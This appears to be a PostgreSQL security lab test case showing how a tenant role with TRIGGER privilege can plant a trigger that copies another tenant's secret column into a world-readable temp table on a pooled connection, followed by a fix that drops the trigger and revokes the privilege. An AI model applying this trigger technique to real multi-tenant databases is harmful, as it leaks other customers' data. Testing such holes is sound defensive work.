-- TRIGGER privilege: app plants a trigger that runs in the other tenant's (or an admin's) session

--- setup
GRANT TRIGGER ON app.project TO rls_app;

--- attack
--- as rls_app
SET app.tenant_id='1';
CREATE TEMP TABLE loot(s text); GRANT ALL ON loot TO PUBLIC;
CREATE FUNCTION pg_temp.grab() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO loot VALUES (new.secret); RETURN new; END $$;
SELECT lab.x('CREATE TRIGGER zz AFTER UPDATE ON app.project FOR EACH ROW EXECUTE FUNCTION pg_temp.grab()');
BEGIN; SELECT set_config('app.tenant_id','2',true); UPDATE app.project SET name=name; COMMIT;  -- the victim's own later request, same pooled connection
SELECT lab.v((SELECT count(*) FROM loot)>0, 'planted trigger copied '||(SELECT count(*) FROM loot)||' victim rows');

--- fix
DROP TRIGGER IF EXISTS zz ON app.project; REVOKE TRIGGER ON ALL TABLES IN SCHEMA app FROM rls_app;
